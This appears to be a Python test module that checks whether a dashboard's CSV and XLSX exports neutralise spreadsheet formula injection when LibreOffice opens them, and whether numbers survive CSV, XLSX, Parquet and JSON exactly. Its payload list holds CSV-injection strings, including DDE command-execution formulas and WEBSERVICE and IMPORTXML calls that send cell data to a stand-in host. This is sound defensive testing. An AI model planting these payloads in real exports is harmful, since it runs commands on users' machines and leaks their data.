"""Tables as a spreadsheet opens them: no cell becomes a formula or a link, and no number loses a digit."""

from __future__ import annotations

import io
import json
import re
import subprocess
import tempfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd

from dashboard.exports import tables

ABOUT = {"Title": '=HYPERLINK("http://evil.example","x")', "Source": "+1+1", "Snapshot": "@SUM(A1)"}
PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   +1+1", "\u00a0=1+1", " \t =1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", '=HYPERLINK("http://evil.example","click")', "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'", "-2+3+cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", '=DDE("soffice";"a.ods";"A1")',
    '=WEBSERVICE("http://evil.example/"&A1)', '=IMPORTXML("http://evil.example","//a")', "=1+1,2", "=1+1;2",
    '"=1+1"', "'=1+1", '",=1+1,"', '""=1+1', "text\n=1+1", "text\r=1+1", "a,=1+1", "=SUM(A1:A9)*2", "{=1+1}",
    "\u200b=1+1", "\ufeff=1+1", "\x0b=1+1", "\u2003=1+1", "http://evil.example/", "mailto:a@evil.example",
)  # fmt: skip
_COMMA_QUOTE_UTF8 = "CSV:44,34,76,1"


def opened(data: bytes, suffix: str) -> str:
    """Return a file as LibreOffice reads and calculates it: the text of a flat OpenDocument sheet."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"table.{suffix}"
        path.write_bytes(data)
        reading = [f"--infilter={_COMMA_QUOTE_UTF8}"] if suffix == "csv" else []
        profile = f"-env:UserInstallation={(Path(folder) / 'profile').as_uri()}"
        subprocess.run(
            ["soffice", profile, "--headless", *reading, "--convert-to", "fods", "--outdir", folder, str(path)],
            check=True, capture_output=True, timeout=180,
        )  # fmt: skip
        return path.with_suffix(".fods").read_text(encoding="utf-8")


def live(sheet: str) -> tuple[int, int]:
    """Return how many formulas and how many links a flat sheet holds."""
    return len(re.findall(r"table:formula=", sheet)), len(re.findall(r"<text:a |xlink:href=", sheet))


def formulas() -> dict[str, tuple[int, int]]:
    """Return formulas and links that LibreOffice finds in each form, and in a bare CSV that shows that it looks."""
    answer = pd.DataFrame({"text": PAYLOADS, "n": range(len(PAYLOADS))})
    bare = answer.to_csv(index=False).encode()
    return {
        "a CSV without our guard": live(opened(bare, "csv")),
        "CSV": live(opened(tables.csv(answer), "csv")),
        "XLSX": live(opened(tables.xlsx(answer, ABOUT), "xlsx")),
    }


def numbers(count: int, seed: int) -> np.ndarray:
    """Return negative and scientific numbers of every size a double has, and its edges."""
    draw = np.random.default_rng(seed)
    found = draw.uniform(-10, 10, count) * 10.0 ** draw.integers(-307, 307, count)
    edges = [-0.0, 5e-324, -5e-324, np.nextafter(0.1, 1), -1e22, 1.7976931348623157e308, -123456789.000000015, 1e-7]
    found[: len(edges)] = edges
    return found


def lost(values: np.ndarray) -> dict[str, int]:
    """Return, for each form, how many numbers come back with other bits than they went in with."""
    answer = pd.DataFrame({"lift": values})
    book = openpyxl.load_workbook(io.BytesIO(tables.xlsx(answer, {})), read_only=True)["Data"]
    back = {
        "CSV": pd.read_csv(io.BytesIO(tables.csv(answer)))["lift"],
        "XLSX": [row[0] for row in book.iter_rows(min_row=2, values_only=True)],
        "Parquet": pd.read_parquet(io.BytesIO(tables.parquet(answer, {})))["lift"],
        "JSON": [row["lift"] for row in json.loads(tables.rows(answer, {}))["rows"]],
    }
    return {form: int((np.asarray(found, dtype=float) != values).sum()) for form, found in back.items()}
